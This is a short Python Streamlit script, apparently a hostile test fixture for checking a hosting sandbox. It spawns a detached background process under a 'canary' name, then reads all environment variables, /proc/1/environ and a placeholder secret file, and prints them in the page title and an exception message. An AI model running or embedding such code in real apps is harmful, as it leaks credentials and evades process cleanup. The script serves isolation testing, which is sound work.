import os

import streamlit as st

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["hostile-canary-chat", "600"])
    os._exit(0)
os.wait()


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as exc:
        return f"<{exc}>"


_leak = " | ".join([*(f"{k}={v}" for k, v in os.environ.items()), _read("/proc/1/environ"),
                    _read("@@SECRET_FILE@@")])
st.title(_leak[:2000])
raise RuntimeError("hostile: " + _leak[-2500:])
